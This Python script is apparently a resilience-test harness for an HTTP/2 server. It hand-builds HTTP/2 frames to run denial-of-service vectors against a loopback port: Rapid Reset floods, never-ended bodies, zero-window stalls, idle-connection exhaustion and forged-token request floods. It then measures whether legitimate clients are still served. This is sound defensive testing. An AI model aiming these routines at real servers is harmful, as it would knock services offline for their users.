#!/usr/bin/env python3
"""Attack clients for scripts/attacks.sh (issue 13): raw HTTP/2 and HTTP/1.1 bytes to a
loopback port, bounded in count and time; each prints one JSON line with what it saw.

    attacks.py VECTOR PORT [options]      VECTOR: busy, rapid-reset, bodies, zero-window,
                                          idle, forged-tokens, neighbour

Raw frames (not the h2 library) because the attacks break the rules a library enforces:
streams reset at once, windows never opened, bodies never ended. Loopback only.
"""
import argparse, json, select, socket, struct, sys, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix, flags):
    """HPACK integer with a `prefix`-bit prefix (RFC 7541 §5.1)."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([flags | value])
    out, value = [flags | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def literal(name, value, indexed=False):
    """HPACK literal (new name), without or with incremental indexing; no Huffman."""
    def string(s):
        b = s.encode()
        return integer(len(b), 7, 0) + b
    return (b"\x40" if indexed else b"\x00") + string(name) + string(value)


def request_block(method, path, authority="127.0.0.1", extra=()):
    block = literal(":method", method) + literal(":scheme", "http") + literal(":path", path) + literal(":authority", authority)
    for name, value in extra:
        block += literal(name, value)
    return block


class Peer:
    """One h2c connection: the preface, our SETTINGS, and a frame reader."""

    def __init__(self, port, settings=(), window=None, timeout=10):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        payload = b"".join(struct.pack(">HI", k, v) for k, v in settings)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, payload))
        if window:
            self.sock.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", window)))
        self.buffer = b""
        self.closed = False
        self.goaway = None
        self.goaway_last_stream = None
        self.resets = {}
        self.headers = 0
        self.settings_seen = False
        # Our send windows, as the server grants them (DATA is sent within them).
        self.conn_window = 65535
        self.initial_window = 65535
        self.stream_sent = {}
        self.stream_credit = {}

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def pump(self, wait=0.0):
        """Reads what has arrived (waiting up to `wait` s for something); False once closed."""
        if self.closed:
            return False
        try:
            poller = select.poll()  # not select(): descriptors past 1024 (the idle attack)
            poller.register(self.sock, select.POLLIN)
            ready = poller.poll(int(wait * 1000))
            if not ready:
                return True
            chunk = self.sock.recv(1 << 20)
        except OSError:
            chunk = b""
        if not chunk:
            self.closed = True
            return False
        self.buffer += chunk
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == SETTINGS and not flags & 1:
                self.settings_seen = True
                for at in range(0, len(payload) - 5, 6):
                    key, value = struct.unpack(">HI", payload[at:at + 6])
                    if key == 4:
                        self.initial_window = value
                self.send(frame(SETTINGS, 1, 0))
            elif kind == PING and not flags & 1:
                self.send(frame(PING, 1, 0, payload))
            elif kind == GOAWAY:
                self.goaway_last_stream = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                self.goaway = CODES.get(int.from_bytes(payload[4:8], "big"), str(int.from_bytes(payload[4:8], "big")))
            elif kind == RST:
                code = CODES.get(int.from_bytes(payload[:4], "big"), str(int.from_bytes(payload[:4], "big")))
                self.resets[code] = self.resets.get(code, 0) + 1
            elif kind == HEADERS:
                self.headers += 1
            elif kind == WINDOW_UPDATE:
                increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                if stream == 0:
                    self.conn_window += increment
                else:
                    self.stream_credit[stream] = self.stream_credit.get(stream, 0) + increment
        return True

    def window(self, stream):
        """DATA octets we may send on `stream` now."""
        stream_window = self.initial_window + self.stream_credit.get(stream, 0) - self.stream_sent.get(stream, 0)
        return min(self.conn_window, stream_window)

    def sent_data(self, stream, count):
        self.conn_window -= count
        self.stream_sent[stream] = self.stream_sent.get(stream, 0) + count

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def out(**fields):
    print(json.dumps(fields), flush=True)


def rapid_reset(args):
    peer = Peer(args.port)
    sent = 0
    batch = b""
    for i in range(args.count):
        stream = 2 * i + 1
        batch += frame(HEADERS, 0x4 | 0x1, stream, request_block("GET", "/v1/rapid")) + frame(RST, 0, stream, struct.pack(">I", 8))
        if len(batch) > 32768 or i == args.count - 1:
            if not peer.send(batch):
                break
            sent = i + 1
            batch = b""
            peer.pump()
            if peer.closed or peer.goaway:
                break
    deadline = time.time() + 5
    while not peer.closed and time.time() < deadline and not peer.goaway:
        peer.pump(0.1)
    streams = (peer.goaway_last_stream + 1) // 2 if peer.goaway_last_stream is not None else None
    out(vector="rapid-reset", pairs_sent=sent, goaway=peer.goaway, streams_before_goaway=streams,
        ended=peer.closed or peer.goaway is not None)


def bodies(args):
    """C connections × S streams, each a POST whose body is sent as far as the windows let
    it and never ended; holds for `hold` s, then closes."""
    peers, refused, ended = [], 0, 0
    chunk = b"x" * 16384
    for _ in range(args.connections):
        peers.append(Peer(args.port, settings=[(4, 1 << 20)]))
    for peer in peers:
        frames = b""
        for s in range(args.streams):
            frames += frame(HEADERS, 0x4, 2 * s + 1, request_block("POST", "/v1/devices/upload",
                                                                    extra=[("content-type", "application/json")]))
        peer.send(frames)
    for peer in peers:
        until = time.time() + 5
        while not peer.settings_seen and time.time() < until and peer.pump(0.05):
            pass
    # Send body DATA round-robin within the windows the server grants, never ending a body.
    deadline = time.time() + args.hold
    while time.time() < deadline:
        progress = False
        for peer in peers:
            if peer.closed:
                continue
            peer.pump()
            frames = b""
            for s in range(args.streams):
                stream = 2 * s + 1
                n = min(len(chunk), args.size - peer.stream_sent.get(stream, 0), peer.window(stream))
                if n <= 0:
                    continue
                frames += frame(DATA, 0, stream, chunk[:n])
                peer.sent_data(stream, n)
            if frames:
                progress = True
                peer.send(frames)
        if not progress:
            for peer in peers:
                peer.pump(0.002)
    while time.time() < deadline:
        for peer in peers:
            peer.pump(0.01)
    for peer in peers:
        peer.pump(0.05)
        refused += peer.resets.get("REFUSED_STREAM", 0)
        ended += 1 if peer.closed or peer.goaway else 0
    total = sum(sum(p.stream_sent.values()) for p in peers)
    for peer in peers:
        peer.close()
    out(vector="bodies", connections=args.connections, streams=args.streams, body_bytes=args.size,
        body_bytes_sent=total, refused_streams=refused, connections_ended=ended)


def zero_window(args):
    """C connections × S streams with SETTINGS_INITIAL_WINDOW_SIZE 0: no response DATA can
    flow; counts the streams the server resets (CANCEL) within `hold` s."""
    peers = [Peer(args.port, settings=[(4, 0)]) for _ in range(args.connections)]
    for peer in peers:
        peer.send(b"".join(frame(HEADERS, 0x5, 2 * s + 1, request_block("GET", args.path))
                           for s in range(args.streams)))
    deadline = time.time() + args.hold
    want = args.connections * args.streams
    while time.time() < deadline:
        for peer in peers:
            peer.pump(0.005)
        if sum(p.resets.get("CANCEL", 0) for p in peers) >= want or all(p.closed for p in peers):
            break
    cancelled = sum(p.resets.get("CANCEL", 0) for p in peers)
    ended = sum(1 for p in peers if p.closed or p.goaway)
    for peer in peers:
        peer.close()
    out(vector="zero-window", connections=args.connections, streams=args.streams,
        path=args.path if len(args.path) <= 64 else "%s… (%d characters)" % (args.path[:32], len(args.path)),
        responses_started=sum(p.headers for p in peers), streams_reset_cancel=cancelled,
        connections_ended=ended, seconds=round(time.time() - deadline + args.hold, 1))


def idle(args):
    """`count` connections that send nothing; then a new client must be served."""
    socks = []
    for _ in range(args.count):
        try:
            socks.append(socket.create_connection(("127.0.0.1", args.port), timeout=5))
        except OSError:
            break
    started = time.time()
    served = False
    try:
        # The new client speaks h2c (as nginx's h2c-only port needs): served = a response HEADERS.
        probe = Peer(args.port, timeout=args.hold)
        probe.send(frame(HEADERS, 0x5, 1, request_block("GET", "/v1/idle-probe")))
        while not probe.headers and time.time() - started < args.hold and probe.pump(0.05):
            pass
        served = probe.headers > 0
        probe.close()
    except OSError:
        pass
    waited = time.time() - started
    for s in socks:
        s.close()
    out(vector="idle", idle_connections=len(socks), new_client_served=served, new_client_seconds=round(waited, 3))


def forged_tokens(args):
    """The forged token goes into the HPACK table once; then each request is one HEADERS
    frame of 6 indexed fields (15 bytes), plus RST_STREAM (13 more) with --reset. Without
    it (the default) every request reaches the handler and its provider-token check, so
    Rapid Reset's budget does not end the connection first."""
    peer = Peer(args.port)
    token = args.token[:-4] + ("AAAA" if not args.token.endswith("AAAA") else "BBBB")
    first = (literal(":method", "POST", True) + literal(":scheme", "http", True) + literal(":path", "/3/device/" + "ab" * 32, True)
             + literal(":authority", "127.0.0.1", True) + literal("authorization", "bearer " + token, True)
             + literal("apns-topic", "com.example.app", True))
    # Dynamic table after the first block: 62 = apns-topic ... 67 = :method (newest first).
    again = bytes([0x80 | i for i in (67, 66, 65, 64, 63, 62)])
    sent = 0
    started = time.time()
    batch = frame(HEADERS, 0x5, 1, first)
    for i in range(args.count):
        stream = 2 * i + 1
        if i:
            batch += frame(HEADERS, 0x5, stream, again)
        if args.reset:
            batch += frame(RST, 0, stream, struct.pack(">I", 8))
        if (i + 1) % 100 == 0 or i == args.count - 1:
            if not peer.send(batch):
                break
            sent = i + 1
            batch = b""
            # Read the answers as they come, as a sender would.
            until = time.time() + 5
            while peer.headers + sum(peer.resets.values()) < (0 if args.reset else sent) and time.time() < until:
                if not peer.pump(0.05) or peer.goaway:
                    break
            if peer.closed or peer.goaway:
                break
    deadline = time.time() + 10
    while not peer.closed and time.time() < deadline and not peer.goaway:
        peer.pump(0.1)
    out(vector="forged-tokens", requests_sent=sent, answers=peer.headers, goaway=peer.goaway,
        ended=peer.closed or peer.goaway is not None, seconds=round(time.time() - started, 2))


def fill(args):
    """`count` ordinary GET requests with long paths on one connection, answers read (to
    fill a journal)."""
    peer = Peer(args.port, settings=[(4, 1 << 30)], window=1 << 30)  # windows wide open: answers flow
    path = "/v1/fill/" + "x" * 900
    sent = 0
    for i in range(0, args.count, 100):
        n = min(100, args.count - i)
        peer.send(b"".join(frame(HEADERS, 0x5, 2 * (i + k) + 1, request_block("GET", path)) for k in range(n)))
        sent += n
        until = time.time() + 10
        while peer.headers < sent and time.time() < until and peer.pump(0.05):
            pass
    peer.close()
    out(vector="fill", requests=sent, answers=peer.headers)


def busy(args):
    """An h2 client with a request every 100 ms for `hold` s: it must not be cut."""
    peer = Peer(args.port)
    started = time.time()
    stream, answered = 1, 0
    while time.time() - started < args.hold:
        before = peer.headers
        peer.send(frame(HEADERS, 0x5, stream, request_block("GET", "/v1/busy")))
        stream += 2
        until = time.time() + 2
        while peer.headers == before and time.time() < until and peer.pump(0.05):
            pass
        if peer.closed or peer.goaway:
            break
        answered += 1 if peer.headers > before else 0
        time.sleep(0.1)
    out(vector="busy", seconds=round(time.time() - started, 1), answered=answered, cut=peer.closed or peer.goaway is not None,
        goaway=peer.goaway)


def neighbour(args):
    """Simple HTTP/1.1 keep-alive requests, one at a time, until SIGTERM or `hold` s;
    prints p50/p99 latency and failures."""
    import signal
    stop = [False]
    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))
    latencies, failures, sock = [], 0, None
    started = time.time()
    while not stop[0] and time.time() - started < args.hold:
        t0 = time.time()
        try:
            if sock is None:
                sock = socket.create_connection(("127.0.0.1", args.port), timeout=5)
            sock.sendall(b"GET /v1/neighbour HTTP/1.1\r\nHost: x\r\n\r\n")
            data = b""
            while b"\r\n\r\n" not in data:
                more = sock.recv(65536)
                if not more:
                    raise OSError("closed")
                data += more
            head, _, rest = data.partition(b"\r\n\r\n")
            length = 0
            for line in head.split(b"\r\n"):
                if line.lower().startswith(b"content-length:"):
                    length = int(line.split(b":")[1])
            while len(rest) < length:
                rest += sock.recv(65536)
            latencies.append(time.time() - t0)
        except OSError:
            failures += 1
            if sock:
                sock.close()
            sock = None
        time.sleep(0.01)
    latencies.sort()
    pick = lambda q: round(1000 * latencies[min(len(latencies) - 1, int(q * len(latencies)))], 1) if latencies else None
    out(vector="neighbour", requests=len(latencies), failures=failures, p50_ms=pick(0.5), p99_ms=pick(0.99),
        summary=f"{pick(0.5)}/{pick(0.99)} ({len(latencies)} ok, {failures} failed)")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("vector")
    parser.add_argument("port", type=int)
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--connections", type=int, default=2)
    parser.add_argument("--streams", type=int, default=10)
    parser.add_argument("--size", type=int, default=65536)
    parser.add_argument("--hold", type=float, default=5)
    parser.add_argument("--path", default="/v1/zero-window")
    parser.add_argument("--token", default="")
    parser.add_argument("--reset", action="store_true")
    args = parser.parse_args()
    vectors = {"rapid-reset": rapid_reset, "bodies": bodies, "zero-window": zero_window, "idle": idle,
               "forged-tokens": forged_tokens, "busy": busy, "neighbour": neighbour, "fill": fill}
    if args.vector not in vectors:
        sys.exit(f"Usage: attacks.py {{{'|'.join(vectors)}}} PORT [options]")
    vectors[args.vector](args)


if __name__ == "__main__":
    main()
